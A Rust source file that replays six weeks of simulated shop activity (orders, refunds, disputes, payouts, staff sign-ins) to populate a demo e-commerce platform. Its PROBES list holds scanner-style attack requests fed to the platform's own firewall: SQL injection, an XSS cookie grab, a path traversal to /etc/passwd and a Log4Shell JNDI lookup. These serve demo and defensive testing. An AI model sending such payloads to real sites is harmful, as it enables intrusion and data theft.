//! The demo's past: six weeks of trading replayed in time order through a clock the demo moves itself, so every
//! row (orders and their events, reviews, disputes, payouts, sign-ins, firewall events, audit entries) carries the
//! time it would have had. Busy evenings, busier weekends, quiet early mornings, stores that grow, and a payout
//! every Monday: dashboards and charts have something real to show.
//!
//! Deterministic: the same seed plans the same history relative to "now", so tests can count on its shape.

use std::collections::BTreeMap;

use indicatif::ProgressBar;
use palisade_commerce::access::OrderAccess;
use palisade_commerce::orders::{self, Line, Status};
use palisade_commerce::policy::Policy;
use palisade_commerce::{disputes, payouts, reviews};
use palisade_core::money::{Currency, Money};
use palisade_core::time::{ManualClock, Timestamp};
use palisade_core::{OrderId, StoreId, VariantId};
use palisade_store::shield_events::{self, NewShieldEvent};
use palisade_store::tenancy::Account;
use palisade_store::{Db, StaffScope};

use super::demo_images::Rng;
use super::demo_shop::{self, Shop};

pub const HOUR: i64 = 3_600_000;
pub const DAY: i64 = 24 * HOUR;
/// Singapore time, where the demo's shoppers live: UTC+8 (no daylight saving).
const LOCAL: i64 = 8 * HOUR;

/// A store as the history sees it: when it opened, how busy it is, and what it sells.
#[derive(Debug, Clone)]
pub struct Trader {
    pub store: StoreId,
    pub opened: Timestamp,
    /// Orders on an ordinary weekday once the store is established.
    pub orders_per_day: f32,
    pub variants: Vec<VariantId>,
}

/// What happens at one moment.
#[derive(Debug, Clone)]
enum Step {
    Place {
        trader: usize,
        n: usize,
    },
    Ship {
        trader: usize,
        order: OrderId,
        access: OrderAccess,
        fate: Fate,
        n: usize,
    },
    Deliver {
        trader: usize,
        order: OrderId,
        access: OrderAccess,
        fate: Fate,
    },
    Confirm {
        access: OrderAccess,
        review: Option<usize>,
    },
    Refund {
        trader: usize,
        order: OrderId,
        part: i64,
        note: &'static str,
    },
    Dispute {
        trader: usize,
        access: OrderAccess,
        answer: bool,
    },
    Answer {
        trader: usize,
        dispute: palisade_core::DisputeId,
    },
    Payout {
        trader: usize,
    },
    Probe {
        store: StoreId,
        kind: usize,
    },
    /// A team member signs in (`typo`: after one wrong password first).
    SignIn {
        who: usize,
        typo: bool,
    },
}

/// Where an order's story ends (if there is time for it to get there).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Fate {
    /// Shipped, delivered, confirmed by the buyer (or left to the automatic release).
    Happy { confirm: bool, review: bool },
    /// Refunded in full before it shipped.
    Refunded,
    /// Shipped, then part refunded for a damaged item.
    PartRefund,
    /// Shipped, then disputed as not received; `answered`: the store has replied.
    Disputed { answered: bool },
}

/// The queue of what happens next, in time order (ties in the order they were planned).
#[derive(Default)]
struct Agenda {
    steps: BTreeMap<(i64, u64), Step>,
    seq: u64,
}

impl Agenda {
    fn at(&mut self, t: i64, step: Step) {
        self.seq += 1;
        self.steps.insert((t, self.seq), step);
    }
}

/// How busy an hour of the local day is, relative to the busiest (evenings); nights are quiet.
const HOURLY: [f32; 24] = [
    0.15, 0.08, 0.04, 0.03, 0.03, 0.05, 0.12, 0.25, 0.4, 0.5, 0.55, 0.6, 0.7, 0.6, 0.55, 0.55, 0.6, 0.7, 0.8, 0.9, 1.0,
    1.0, 0.8, 0.4,
];

/// Weekday factor, Monday first: weekends sell more, Mondays least.
const WEEKLY: [f32; 7] = [0.75, 0.9, 0.95, 1.0, 1.1, 1.35, 1.3];

/// A moment of local day `day` (days since the epoch, local), at a random hour weighted by [`HOURLY`].
fn moment(rng: &mut Rng, day: i64) -> i64 {
    let total: f32 = HOURLY.iter().sum();
    let mut pick = rng.unit() * total;
    let mut hour = 0;
    for (h, w) in HOURLY.iter().enumerate() {
        hour = h;
        if pick < *w {
            break;
        }
        pick -= w;
    }
    day * DAY - LOCAL + hour as i64 * HOUR + rng.below(HOUR as u64) as i64
}

fn weekday(day: i64) -> usize {
    // 1970-01-01 was a Thursday (index 3 with Monday first).
    usize::try_from((day + 3).rem_euclid(7)).unwrap_or(0)
}

/// Plans every order (and the probes the firewall saw) from each store's opening to `now`.
fn plan(rng: &mut Rng, traders: &[Trader], staff: &[(usize, &str)], now: i64) -> Agenda {
    let mut agenda = Agenda::default();
    let mut n = 0;
    let today = (now + LOCAL).div_euclid(DAY);
    for (i, t) in traders.iter().enumerate() {
        let first = (t.opened.0 + LOCAL).div_euclid(DAY);
        for day in first..=today {
            // A new store grows into its custom over its first weeks.
            let age = (day - first) as f32;
            let growth = (0.45 + age / 28.0).min(1.0);
            let expected = t.orders_per_day * growth * WEEKLY.get(weekday(day)).copied().unwrap_or(1.0);
            let count = (expected + rng.unit() * 1.2 - 0.6).round().max(0.0) as usize;
            for _ in 0..count {
                let at = moment(rng, day);
                if at > t.opened.0 + HOUR && at < now {
                    n += 1;
                    agenda.at(at, Step::Place { trader: i, n });
                }
            }
            // Mondays at ten, the store withdraws part of what has been released to it.
            if weekday(day) == 0 && day > first {
                agenda.at(day * DAY - LOCAL + 10 * HOUR, Step::Payout { trader: i });
            }
            plan_sign_ins(rng, &mut agenda, i, day, staff);
            // Bots never sleep: a few probes a day, more at night.
            for _ in 0..rng.below(3 + (t.orders_per_day as u64) / 3) {
                let at = day * DAY - LOCAL + rng.below(DAY as u64) as i64;
                if at > t.opened.0 && at < now {
                    agenda.at(at, Step::Probe { store: t.store, kind: rng.below(PROBES.len() as u64) as usize });
                }
            }
        }
    }
    agenda
}

/// Weekday-morning sign-ins of store `trader`'s team: the owner (listed first) about every third working day,
/// the others about once in two weeks; now and then a mistyped password first.
fn plan_sign_ins(rng: &mut Rng, agenda: &mut Agenda, trader: usize, day: i64, staff: &[(usize, &str)]) {
    if weekday(day) >= 5 {
        return;
    }
    let team = staff.iter().enumerate().filter(|(_, (t, _))| *t == trader);
    for (k, (who, _)) in team.enumerate() {
        let chance = if k == 0 { 30 } else { 10 };
        if rng.below(100) < chance {
            let at = day * DAY - LOCAL + 8 * HOUR + hours(rng, 0, 3);
            agenda.at(at, Step::SignIn { who, typo: rng.below(20) == 0 });
        }
    }
}

/// What a placed order will become: mostly happy, a few refunds and disputes, as a real shop sees.
fn fate(rng: &mut Rng) -> Fate {
    match rng.below(100) {
        0..=3 => Fate::Refunded,
        4..=6 => Fate::PartRefund,
        7..=9 => Fate::Disputed { answered: rng.below(3) > 0 },
        _ => Fate::Happy { confirm: rng.below(10) < 7, review: rng.below(10) < 6 },
    }
}

/// What the firewall saw: (method, path, query, user agent). Real scanners' greatest hits.
const PROBES: &[(&str, &str, &str, &str)] = &[
    ("GET", "/s/{store}/search", "q=%27%20OR%201%3D1--", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    ("GET", "/s/{store}/search", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "Mozilla/5.0"),
    ("GET", "/s/{store}/products", "sort=1%20UNION%20SELECT%20password%20FROM%20accounts", "python-requests/2.32"),
    ("GET", "/s/{store}/../../etc/passwd", "", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    ("GET", "/s/{store}/search", "q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", "curl/8.5.0"),
    ("POST", "/s/{store}/cart", "", "Go-http-client/1.1"),
];

/// Where probes come from (documentation ranges: no real address is accused).
const PROBE_IPS: &[&str] = &["203.0.113.9", "198.51.100.23", "192.0.2.77", "203.0.113.145", "198.51.100.4"];

/// Inspects one probe with the real engine and records what it decided, as the edge's event writer would.
async fn probe(db: &Db, rng: &mut Rng, store: StoreId, slug: &str, kind: usize) -> anyhow::Result<bool> {
    let Some((method, path, query, agent)) = PROBES.get(kind) else { return Ok(false) };
    let path = path.replace("{store}", slug);
    let body = if *method == "POST" { "variant=1;DROP TABLE orders;--&quantity=1" } else { "" };
    let req = palisade_shield::request::Request {
        method: (*method).into(),
        path: path.as_str().into(),
        query: (*query).into(),
        headers: vec![
            ("user-agent".into(), (*agent).into()),
            ("content-type".into(), "application/x-www-form-urlencoded".into()),
        ],
        body: bytes::Bytes::from_static(body.as_bytes()),
    };
    let verdict = palisade_shield::Shield::default().inspect(&req, &palisade_shield::Policy::default());
    if verdict.action == palisade_shield::Action::Allow {
        return Ok(false);
    }
    let rules: Vec<&str> = verdict.findings.iter().map(|f| f.rule).collect();
    let findings = serde_json::to_value(&verdict.findings)?;
    let ip = PROBE_IPS.get(rng.below(PROBE_IPS.len() as u64) as usize).copied();
    let at = db.now();
    let (secs, ms) = (u64::try_from(at.0 / 1000).unwrap_or(0), u32::try_from(at.0 % 1000).unwrap_or(0));
    let id = uuid::Uuid::new_v7(uuid::Timestamp::from_unix(uuid::NoContext, secs, ms * 1_000_000)).to_string();
    let e = NewShieldEvent {
        id: &id,
        at,
        store: Some(store),
        client_ip: ip,
        method,
        path: &path,
        action: verdict.action.as_str(),
        score: verdict.score,
        rules: &rules,
        findings: &findings,
    };
    shield_events::record(db, &e).await?;
    Ok(true)
}

/// Everything the replay needs at hand.
pub struct World<'a> {
    pub db: &'a Db,
    pub clock: &'a ManualClock,
    pub identity: &'a palisade_identity::Identity,
    pub traders: &'a [Trader],
    /// Every team member: (index into `traders`, email).
    pub staff: &'a [(usize, &'a str)],
    pub slugs: &'a [String],
    pub buyers: &'a [Account],
    pub policy: &'a Policy,
    pub bar: &'a ProgressBar,
}

/// Replays the planned weeks up to `now`; returns the number of steps taken.
pub async fn replay(w: &World<'_>, seed: u64, now: Timestamp, shop: &mut Shop) -> anyhow::Result<()> {
    let mut rng = Rng::new(seed);
    let mut agenda = plan(&mut rng, w.traders, w.staff, now.0);
    w.bar.inc_length(agenda.steps.len() as u64);
    while let Some(((t, _), step)) = agenda.steps.pop_first() {
        if t >= now.0 {
            continue;
        }
        w.clock.set(Timestamp(t));
        let followups = take(w, &mut rng, step, shop).await?;
        for (after, next) in followups {
            if t + after < now.0 {
                agenda.at(t + after, next);
                w.bar.inc_length(1);
            }
        }
        w.bar.inc(1);
    }
    w.clock.set(now);
    Ok(())
}

/// A random delay between `lo` and `hi` hours, in milliseconds.
fn hours(rng: &mut Rng, lo: i64, hi: i64) -> i64 {
    lo * HOUR + rng.below(((hi - lo).max(1) * HOUR) as u64) as i64
}

/// Takes one step; returns what follows from it (delay in ms, step).
async fn take(w: &World<'_>, rng: &mut Rng, step: Step, shop: &mut Shop) -> anyhow::Result<Vec<(i64, Step)>> {
    let db = w.db;
    match step {
        Step::Place { trader, n } => {
            let Some(t) = w.traders.get(trader) else { return Ok(Vec::new()) };
            let Some(placed) = place(w, rng, t, n).await? else { return Ok(Vec::new()) };
            shop.orders += 1;
            let day = (db.now().0 + LOCAL).div_euclid(DAY);
            if shop.last_order_day != Some(day) {
                shop.last_order_day = Some(day);
                shop.order_days += 1;
            }
            let (order, access) = (placed.order.id, placed.access);
            Ok(vec![match fate(rng) {
                Fate::Refunded => {
                    let part = placed.order.total.minor;
                    (hours(rng, 2, 20), Step::Refund { trader, order, part, note: REFUND_NOTES[0] })
                }
                fate => (hours(rng, 4, 30), Step::Ship { trader, order, access, fate, n }),
            }])
        }
        Step::Payout { trader } => {
            let Some(t) = w.traders.get(trader) else { return Ok(Vec::new()) };
            let scope = StaffScope::system(t.store, "demo");
            // An unverified demo seller cannot be paid out (as in production): its balance just grows.
            if !palisade_commerce::verification::is_verified(db, &scope).await? {
                return Ok(Vec::new());
            }
            let balance = palisade_commerce::ledger::store_balance(db, &scope, Currency::SGD).await?;
            if balance > 5000 {
                payouts::request(db, &scope, Money::new(balance / 10 * 6, Currency::SGD)).await?;
                shop.payouts += 1;
            }
            Ok(Vec::new())
        }
        Step::Probe { store, kind } => {
            let slug = w.traders.iter().position(|t| t.store == store).and_then(|i| w.slugs.get(i));
            if probe(db, rng, store, slug.map_or("", String::as_str), kind).await? {
                shop.firewall_events += 1;
            }
            Ok(Vec::new())
        }
        Step::SignIn { who, typo } => {
            let Some((_, email)) = w.staff.get(who) else { return Ok(Vec::new()) };
            let attempt = if typo { Attempt::AfterTypo } else { Attempt::Straight };
            sign_in(w, who, email, attempt).await?;
            shop.sign_ins += 1;
            Ok(Vec::new())
        }
        step => lifecycle(w, rng, step, shop).await,
    }
}

/// The steps of a placed order's life after checkout: shipping, delivery, confirmation and review, refunds,
/// disputes and the store's answer.
async fn lifecycle(w: &World<'_>, rng: &mut Rng, step: Step, shop: &mut Shop) -> anyhow::Result<Vec<(i64, Step)>> {
    let db = w.db;
    let staff = |trader: usize| w.traders.get(trader).map(|t| StaffScope::system(t.store, "demo"));
    let mut next = Vec::new();
    match step {
        Step::Ship { trader, order, access, fate, n } => {
            let Some(scope) = staff(trader) else { return Ok(next) };
            let tracking = format!("SG{:09}", 100_000 + n * 7);
            orders::transition(db, &scope, order, Status::Shipped, Some(&tracking), w.policy).await?;
            next.push(match fate {
                Fate::PartRefund => {
                    let total = orders::get(db, &scope, order).await?.total.minor;
                    (hours(rng, 48, 96), Step::Refund { trader, order, part: total / 4, note: REFUND_NOTES[1] })
                }
                Fate::Disputed { answered } => {
                    (hours(rng, 5 * 24, 7 * 24), Step::Dispute { trader, access, answer: answered })
                }
                Fate::Happy { .. } | Fate::Refunded => {
                    (hours(rng, 30, 80), Step::Deliver { trader, order, access, fate })
                }
            });
        }
        Step::Deliver { trader, order, access, fate } => {
            let Some(scope) = staff(trader) else { return Ok(next) };
            orders::transition(db, &scope, order, Status::Delivered, None, w.policy).await?;
            if let Fate::Happy { confirm: true, review } = fate {
                let review = review.then(|| rng.below(demo_shop::REVIEWS.len() as u64) as usize);
                next.push((hours(rng, 6, 72), Step::Confirm { access, review }));
            }
        }
        Step::Confirm { access, review } => {
            orders::confirm_received(db, &access, w.policy).await?;
            if let Some((rating, text)) = review.and_then(|r| demo_shop::REVIEWS.get(r)) {
                reviews::add(db, &access, *rating, text).await?;
                shop.reviews += 1;
            }
        }
        Step::Refund { trader, order, part, note } => {
            let Some(scope) = staff(trader) else { return Ok(next) };
            orders::refund(db, &scope, order, part, note).await?;
        }
        Step::Dispute { trader, access, answer } => {
            let d =
                disputes::open(db, &access, "not_received", "The tracking number has not moved for a week.").await?;
            shop.disputes += 1;
            if answer {
                next.push((hours(rng, 3, 30), Step::Answer { trader, dispute: d.id }));
            }
        }
        Step::Answer { trader, dispute } => {
            let Some(scope) = staff(trader) else { return Ok(next) };
            disputes::respond(db, &scope, dispute, DISPUTE_ANSWER).await?;
        }
        Step::Place { .. } | Step::Payout { .. } | Step::Probe { .. } | Step::SignIn { .. } => {}
    }
    Ok(next)
}

/// Whether a sign-in starts with a mistyped password.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attempt {
    Straight,
    AfterTypo,
}

/// One sign-in through the real login (throttle, session, known device, audit entry), from the member's usual
/// browser and network.
async fn sign_in(w: &World<'_>, who: usize, email: &str, attempt: Attempt) -> anyhow::Result<()> {
    let client = palisade_identity::sessions::Client {
        ip: Some(format!("198.51.100.{}", 10 + who)),
        user_agent: Some(BROWSERS.get(who % BROWSERS.len()).copied().unwrap_or("Mozilla/5.0").to_owned()),
        device: None,
    };
    let password = |p: &str| secrecy::SecretString::from(p.to_owned());
    if attempt == Attempt::AfterTypo {
        w.identity.login(email, password("harbour lanterm 2026"), &client).await?;
    }
    w.identity.login(email, password(super::demo::DEMO_PASSWORD), &client).await?;
    Ok(())
}

const BROWSERS: [&str; 3] = [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
];

const REFUND_NOTES: [&str; 2] = ["out of stock after all; sorry", "one item arrived scratched"];
const DISPUTE_ANSWER: &str =
    "The courier confirms delivery to the lobby on Tuesday; photo attached to the courier record.";

/// Places order `n` in `t`'s store for a random buyer: one to three lines; about one card in thirty is declined
/// (no order, only the store's audit entry).
async fn place(w: &World<'_>, rng: &mut Rng, t: &Trader, n: usize) -> anyhow::Result<Option<orders::Placed>> {
    let Some(buyer) = w.buyers.get(rng.below(w.buyers.len() as u64) as usize) else { return Ok(None) };
    let mut lines: Vec<Line> = Vec::new();
    for _ in 0..1 + rng.below(3) {
        let Some(v) = t.variants.get(rng.below(t.variants.len() as u64) as usize) else { continue };
        if !lines.iter().any(|l| l.variant_id == *v) {
            lines.push(Line { variant_id: *v, quantity: 1 + (rng.below(5) / 4) as i64 });
        }
    }
    if lines.is_empty() {
        return Ok(None);
    }
    let card = match rng.below(30) {
        0 => "4000000000000002",
        1..=9 => "5555555555554444",
        _ => "4242424242424242",
    };
    demo_shop::place(w.db, t.store, buyer, n, lines, card).await
}
